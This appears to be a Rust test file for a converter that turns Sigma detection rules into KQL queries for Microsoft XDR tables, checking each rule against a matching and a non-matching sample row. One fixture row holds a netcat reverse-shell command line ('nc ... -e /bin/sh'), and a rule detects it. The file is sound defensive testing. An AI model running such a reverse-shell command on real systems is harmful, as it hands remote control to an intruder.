//! microsoft_xdr's added tables and action types (CloudAppEvents for AWS,
//! Okta, GitHub, Azure activity and GCP audit records,
//! EntraIdSignInEvents, DeviceEvents ServiceInstalled and AntivirusDetection,
//! DeviceProcessEvents of the Linux sensor, AlertInfo for Microsoft 365's
//! alerts): each rule converted, then run over rows shaped as the table holds
//! them — one row the rule must return and one it must not — by our evaluator
//! and, where `shared/tools/kql-run` runs, by kql-run too.

mod common;

use common::{compare_with_kql_run, kql_run, shared};
use serde_json::{json, Value};
use sigmaplay_core::kql::convert;
use sigmaplay_core::{parse_rule, pipeline, Placeholders};

struct Case {
    name: &'static str,
    rule: &'static str,
    table: &'static str,
    /// Row the query must return, then a row it must not.
    rows: [Value; 2],
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            name: "aws_cloudtrail",
            rule: "title: t\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  sel:\n    eventSource: iam.amazonaws.com\n    eventName: CreateUser\n    userIdentity.type: IAMUser\n  condition: sel\n",
            table: "CloudAppEvents",
            // Defender for Cloud Apps' AWS connector: ActionType is the API name,
            // RawEventData the CloudTrail record.
            rows: [
                json!({"Application": "Amazon Web Services", "ActionType": "CreateUser",
                       "RawEventData": {"eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
                                        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/a"}}}),
                json!({"Application": "Amazon Web Services", "ActionType": "CreateUser",
                       "RawEventData": {"eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
                                        "userIdentity": {"type": "AssumedRole"}}}),
            ],
        },
        Case {
            name: "okta",
            rule: "title: t\nlogsource:\n  product: okta\n  service: okta\ndetection:\n  sel:\n    eventType: user.mfa.factor.deactivate\n  condition: sel\n",
            table: "CloudAppEvents",
            rows: [
                json!({"Application": "Okta", "RawEventData": {"eventType": "user.mfa.factor.deactivate",
                                                               "outcome": {"result": "SUCCESS"}}}),
                // The same record from another app is not an Okta event.
                json!({"Application": "GitHub", "RawEventData": {"eventType": "user.mfa.factor.deactivate"}}),
            ],
        },
        Case {
            name: "github",
            rule: "title: t\nlogsource:\n  product: github\n  service: audit\ndetection:\n  sel:\n    action: repo.destroy\n  condition: sel\n",
            table: "CloudAppEvents",
            rows: [
                json!({"Application": "GitHub", "RawEventData": {"action": "repo.destroy", "actor": "a"}}),
                json!({"Application": "GitHub", "RawEventData": {"action": "repo.create", "actor": "a"}}),
            ],
        },
        Case {
            name: "signinlogs",
            rule: "title: t\nlogsource:\n  product: azure\n  service: signinlogs\ndetection:\n  sel:\n    ResultType: 50126\n    AuthenticationRequirement: singleFactorAuthentication\n  condition: sel\n",
            table: "EntraIdSignInEvents",
            rows: [
                json!({"ErrorCode": 50126, "AuthenticationRequirement": "singleFactorAuthentication",
                       "AccountUpn": "a@contoso.com"}),
                json!({"ErrorCode": 0, "AuthenticationRequirement": "singleFactorAuthentication"}),
            ],
        },
        Case {
            name: "signinlogs_status_risk",
            rule: "title: t\nlogsource:\n  product: azure\n  service: signinlogs\ndetection:\n  sel:\n    Status: Success\n    AuthenticationRequirement: singleFactorAuthentication\n    RiskState: atRisk\n  condition: sel\n",
            table: "EntraIdSignInEvents",
            // The table reference: ErrorCode 0 is a successful sign-in, RiskState 4 "at risk".
            rows: [
                json!({"ErrorCode": 0, "AuthenticationRequirement": "singleFactorAuthentication", "RiskState": 4,
                       "AccountUpn": "a@contoso.com"}),
                json!({"ErrorCode": 50126, "AuthenticationRequirement": "singleFactorAuthentication", "RiskState": 4}),
            ],
        },
        Case {
            name: "signinlogs_failure_ca_compliance",
            rule: "title: t\nlogsource:\n  product: azure\n  service: signinlogs\ndetection:\n  sel:\n    Status: Failure\n    conditionalAccessStatus: failure\n    DeviceDetail.isCompliant: 'false'\n  condition: sel\n",
            table: "EntraIdSignInEvents",
            // ConditionalAccessStatus 1: "attempt to apply policies failed"; IsCompliant 0: non-compliant.
            rows: [
                json!({"ErrorCode": 53003, "ConditionalAccessStatus": 1, "IsCompliant": 0}),
                json!({"ErrorCode": 53003, "ConditionalAccessStatus": 1, "IsCompliant": 1}),
            ],
        },
        Case {
            name: "azure_activitylogs",
            rule: "title: t\nlogsource:\n  product: azure\n  service: activitylogs\ndetection:\n  sel:\n    operationName:\n      - MICROSOFT.KEYVAULT/VAULTS/SECRETS/WRITE\n      - MICROSOFT.KEYVAULT/VAULTS/SECRETS/DELETE\n  condition: sel\n",
            table: "CloudAppEvents",
            // Defender for Cloud Apps' Azure connector: ActionType in its own
            // words, RawEventData the activity record as Azure Monitor exports
            // it (operationName a string, in the casing the provider writes).
            rows: [
                json!({"Application": "Microsoft Azure", "ActionType": "Write Secrets",
                       "RawEventData": {"operationName": "Microsoft.KeyVault/vaults/secrets/write", "category": "Administrative",
                                        "resultType": "Success",
                                        "resourceId": "/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/KV/SECRETS/S"}}),
                json!({"Application": "Microsoft Azure", "ActionType": "Read Secrets",
                       "RawEventData": {"operationName": "Microsoft.KeyVault/vaults/secrets/read", "category": "Administrative"}}),
            ],
        },
        Case {
            name: "azure_activitylogs_log_analytics_names",
            rule: "title: t\nlogsource:\n  product: azure\n  service: activitylogs\ndetection:\n  sel:\n    CategoryValue: Administrative\n    ResourceId|contains: AdFederationService\n    OperationNameValue: Microsoft.ADHybridHealthService/services/delete\n  condition: sel\n",
            table: "CloudAppEvents",
            rows: [
                json!({"Application": "Microsoft Azure",
                       "RawEventData": {"operationName": "MICROSOFT.ADHYBRIDHEALTHSERVICE/SERVICES/DELETE", "category": "Administrative",
                                        "resourceId": "/providers/Microsoft.ADHybridHealthService/services/AdFederationService-sts.contoso.com"}}),
                // The same operation in another app's record is not an Azure activity.
                json!({"Application": "Amazon Web Services",
                       "RawEventData": {"operationName": "Microsoft.ADHybridHealthService/services/delete", "category": "Administrative",
                                        "resourceId": "AdFederationService"}}),
            ],
        },
        Case {
            name: "gcp_audit",
            rule: "title: t\nlogsource:\n  product: gcp\n  service: gcp.audit\ndetection:\n  sel:\n    gcp.audit.method_name|endswith: .serviceAccounts.delete\n  condition: sel\n",
            table: "CloudAppEvents",
            // A Cloud Audit Logs LogEntry as the Pub/Sub sink delivers it.
            rows: [
                json!({"Application": "Google Cloud Platform",
                       "RawEventData": {"logName": "projects/p1/logs/cloudaudit.googleapis.com%2Factivity",
                                        "resource": {"type": "service_account", "labels": {"project_id": "p1"}},
                                        "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog",
                                                         "serviceName": "iam.googleapis.com",
                                                         "methodName": "google.iam.admin.v1.DeleteServiceAccount.serviceAccounts.delete",
                                                         "authorizationInfo": [{"permission": "iam.serviceAccounts.delete", "granted": true}]}}}),
                json!({"Application": "Google Cloud Platform",
                       "RawEventData": {"protoPayload": {"serviceName": "iam.googleapis.com",
                                                         "methodName": "google.iam.admin.v1.CreateServiceAccount.serviceAccounts.create"}}}),
            ],
        },
        Case {
            name: "gcp_audit_pubsub_names",
            rule: "title: t\nlogsource:\n  product: gcp\n  service: gcp.audit\ndetection:\n  sel:\n    data.protoPayload.serviceName: container.googleapis.com\n    data.protoPayload.resource.type: k8s_cluster\n    data.protoPayload.methodName: io.k8s.core.v1.pods.create\n  condition: sel\n",
            table: "CloudAppEvents",
            rows: [
                json!({"Application": "Google Cloud Platform",
                       "RawEventData": {"resource": {"type": "k8s_cluster"},
                                        "protoPayload": {"serviceName": "container.googleapis.com",
                                                         "methodName": "io.k8s.core.v1.pods.create"}}}),
                json!({"Application": "Google Cloud Platform",
                       "RawEventData": {"resource": {"type": "k8s_cluster"},
                                        "protoPayload": {"serviceName": "container.googleapis.com",
                                                         "methodName": "io.k8s.core.v1.pods.delete"}}}),
            ],
        },
        Case {
            name: "system_7045",
            rule: "title: t\nlogsource:\n  product: windows\n  service: system\ndetection:\n  sel:\n    Provider_Name: Service Control Manager\n    EventID: 7045\n    ServiceName: PSEXESVC\n    AccountName: LocalSystem\n  condition: sel\n",
            table: "DeviceEvents",
            rows: [
                json!({"ActionType": "ServiceInstalled", "FileName": "PSEXESVC.exe", "FolderPath": "C:\\Windows\\PSEXESVC.exe",
                       "AdditionalFields": {"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem"}}),
                // A named pipe event of the same process is no service install.
                json!({"ActionType": "NamedPipeEvent", "AdditionalFields": {"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem"}}),
            ],
        },
        Case {
            name: "security_4697",
            rule: "title: t\nlogsource:\n  product: windows\n  service: security\ndetection:\n  sel:\n    EventID: 4697\n    ServiceFileName|contains: '\\AppData\\'\n  condition: sel\n",
            table: "DeviceEvents",
            rows: [
                json!({"ActionType": "ServiceInstalled", "FolderPath": "C:\\Users\\a\\AppData\\Local\\Temp\\svc.exe",
                       "AdditionalFields": {"ServiceName": "svc"}}),
                json!({"ActionType": "ServiceInstalled", "FolderPath": "C:\\Windows\\System32\\svchost.exe",
                       "AdditionalFields": {"ServiceName": "svc"}}),
            ],
        },
        Case {
            name: "antivirus",
            rule: "title: t\nlogsource:\n  category: antivirus\ndetection:\n  sel:\n    Signature|contains: Mimikatz\n  condition: sel\n",
            table: "DeviceEvents",
            rows: [
                json!({"ActionType": "AntivirusDetection", "FileName": "m.exe", "FolderPath": "C:\\Temp\\m.exe",
                       "AdditionalFields": {"ThreatName": "HackTool:Win32/Mimikatz.D", "WasRemediated": true}}),
                json!({"ActionType": "AntivirusDetection", "AdditionalFields": {"ThreatName": "PUA:Win32/Presenoker"}}),
            ],
        },
        Case {
            name: "m365_alert",
            rule: include_str!(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../../shared/corpus/sigmahq/rules/cloud/m365/threat_management/microsoft365_user_restricted_from_sending_email.yml"
            )),
            table: "AlertInfo",
            // Alerts of two default alert policies (the policy's name is the
            // alert's title, its severity the policy's); the columns the table
            // reference documents without a vocabulary are left out.
            rows: [
                json!({"Timestamp": "2026-12-01T08:00:00Z", "AlertId": "fa3c6e2d9b-1f4a-4b8e-9c2d-7e5f1a3b6c8d",
                       "Title": "User restricted from sending email", "Severity": "High"}),
                json!({"Timestamp": "2026-12-01T08:00:00Z", "AlertId": "fa8d1b4c7e-2a5f-4c9d-8e3b-6f1a2c4d7e9b",
                       "Title": "Suspicious email sending patterns detected", "Severity": "Medium"}),
            ],
        },
        Case {
            name: "linux_process_creation",
            rule: "title: t\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n  sel:\n    Image|endswith: /nc\n    CommandLine|contains: ' -e '\n  condition: sel\n",
            table: "DeviceProcessEvents",
            // Defender for Endpoint on Linux: paths with slashes, no version info.
            rows: [
                json!({"FileName": "nc", "FolderPath": "/usr/bin/nc", "ProcessCommandLine": "nc 10.0.0.1 4444 -e /bin/sh",
                       "AccountName": "root"}),
                json!({"FileName": "nc", "FolderPath": "/usr/bin/nc", "ProcessCommandLine": "nc -l 4444"}),
            ],
        },
    ]
}

/// The query each case's rule converts to on microsoft_xdr.
fn query(c: &Case) -> String {
    let p = pipeline::builtin("microsoft_xdr").unwrap_or_else(|| panic!("microsoft_xdr"));
    let rule = parse_rule(c.rule).unwrap_or_else(|d| panic!("{}: {d:#?}", c.name));
    let conv = convert(&rule, &p, &Placeholders::new());
    assert!(!conv.diagnostics.iter().any(|d| d.is_error()), "{}: {:#?}", c.name, conv.diagnostics);
    let q = conv.queries.first().unwrap_or_else(|| panic!("{}: no query", c.name)).clone();
    assert!(q.starts_with(c.table), "{}: {q}", c.name);
    q
}

#[test]
fn added_tables_on_our_evaluator() {
    for c in cases() {
        let q = query(&c);
        let ev = sigmaplay_core::kusto::evaluate(&q, &c.rows);
        assert!(!ev.diagnostics.iter().any(|d| d.is_error()), "{}: {:#?}", c.name, ev.diagnostics);
        assert_eq!(ev.matched(2), vec![true, false], "{}: {q}", c.name);
    }
}

#[test]
fn added_tables_on_kql_run() {
    let tool = shared().join("tools/kql-run/kql-run");
    if !tool.exists() {
        eprintln!("xdr_tables: no kql-run, skipped");
        return;
    }
    let cases = cases();
    let lines: Vec<String> = cases
        .iter()
        .map(|c| json!({"id": c.name, "query": query(c), "events": c.rows, "expected": [0]}).to_string())
        .collect();
    let Some(results) = kql_run(&tool, "xdr_tables", &lines) else { return };
    let (same, differ) = compare_with_kql_run(&results, |_| Some(vec![0]), "microsoft_xdr");
    assert!(differ.is_empty(), "{differ:#?}");
    assert_eq!(same, cases.len());
}
